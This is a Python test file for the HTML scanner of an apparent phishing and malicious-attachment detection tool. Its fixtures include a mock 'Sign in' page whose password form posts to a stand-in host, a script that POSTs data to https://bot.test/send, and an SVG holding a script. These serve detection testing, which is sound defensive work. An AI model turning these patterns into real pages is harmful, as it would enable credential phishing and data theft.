from unhook.files.model import Found
from unhook.files.scanner import Sample
from unhook.files.scanners.html import SCANNER

TRAP = """<html><head><title>Sign in</title></head><body onload="go()">
<form action="https://landing.test/post" method="post"><input name="user"><input type="password"></form>
<a href="https://example.com/help">Help</a><img src="https://pictures.test/logo.png">
<script>var mail = 'rita@example.com'; setTimeout(() => { location.href = 'https://next.test' })</script>
</body></html>"""


def scan(source: str, kind: str = "html", recipients: tuple[str, ...] = ()) -> Found:
    return SCANNER.scan(Sample(source.encode(), kind, recipients=recipients))


def names(found: Found) -> set[str]:
    return {sign.name for sign in found.signs}


def test_a_trap_tells_where_it_posts() -> None:
    found = scan(TRAP, recipients=("rita@example.com",))
    assert names(found) == {
        "html-password-field",
        "html-posts-elsewhere",
        "html-redirect",
        "recipient-inside",
    }
    assert found.record["html"]["title"] == "Sign in"
    assert found.record["javascript"]["identifiers"] == ["go", "mail", "setTimeout", "location", "href"]
    assert "form" in found.record["xml"]["tags"]
    assert [(each.how, each.url) for each in found.references] == [
        ("form", "https://landing.test/post"),
        ("link", "https://example.com/help"),
        ("script", "https://next.test"),
    ]
    assert [each.text.strip() for each in found.texts] == ["Help"]


def test_a_form_without_a_server_that_a_script_sends() -> None:
    found = scan(
        "<form><input type=password></form><script>fetch('https://bot.test/send', {method: 'POST'})</script>"
    )
    (sign,) = [sign for sign in found.signs if sign.name == "html-posts-elsewhere"]
    assert sign.detail == "https://bot.test/send"


def test_an_honest_page_has_no_signs() -> None:
    page = "<p>Minutes of the meeting</p><a href='https://example.com/notes'>notes</a>"
    assert names(scan(page)) == set()


def test_a_data_address_is_a_file_inside() -> None:
    packed = "PGh0bWw+PGJvZHk+SGVsbG8gdGhlcmU8L2JvZHk+PC9odG1sPg=="
    (child,) = scan(f"<iframe src='data:text/html;base64,{packed}'></iframe>").children
    assert (child.data, child.media_type) == (b"<html><body>Hello there</body></html>", "text/html")


def test_a_drawing_with_a_script() -> None:
    drawing = "<svg xmlns='http://www.w3.org/2000/svg'>{}</svg>"
    assert names(scan(drawing.format("<script>alert(1)</script>"), "svg")) == {"svg-script"}
    assert names(scan(drawing.format("<foreignObject><p>x</p></foreignObject>"), "svg")) == {"svg-script"}
    assert names(scan(drawing.format("<circle r='3'/>"), "svg")) == set()


def test_what_it_reads() -> None:
    assert SCANNER.reads(Sample(b"", "html"))
    assert SCANNER.reads(Sample(b"", "unknown", "page.HTM"))
    assert not SCANNER.reads(Sample(b"", "pdf", "page.htm"))
